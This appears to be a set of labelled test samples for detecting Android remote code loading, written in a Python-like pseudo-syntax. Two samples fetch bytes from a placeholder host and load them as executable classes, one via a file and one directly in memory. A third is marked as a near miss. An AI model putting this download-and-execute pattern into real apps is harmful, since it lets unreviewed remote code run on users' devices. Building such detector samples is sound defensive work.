permissions("INTERNET")

@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        file = File(self.getFilesDir(), "m")
        self.fetch(file)
        self.run(file)
    def fetch(self, file: File):
        content = array(byte, 4096)
        URL("https://example.org/m").openStream().read(content)
        FileOutputStream(file).write(content)
    def run(self, file: File):
        loader = DexClassLoader(file.getPath(), None, None, self.getClassLoader())
        loader.loadClass("Start").newInstance()

# near miss: loads the part that it carries; what it fetches is shown as text
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        file = File(self.getFilesDir(), "m")
        self.run(file)
        self.fetch(file)
    def fetch(self, file: File):
        content = array(byte, 4096)
        URL("https://example.org/m").openStream().read(content)
        Toast.makeText(self, String(content), 1).show()
    def run(self, file: File):
        loader = DexClassLoader(file.getPath(), None, None, self.getClassLoader())
        loader.loadClass("Start").newInstance()

# also: straight into memory
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        content = array(byte, 4096)
        URL("https://example.org/m").openConnection().getInputStream().read(content)
        InMemoryDexClassLoader(ByteBuffer.wrap(content), self.getClassLoader()).loadClass("Start")
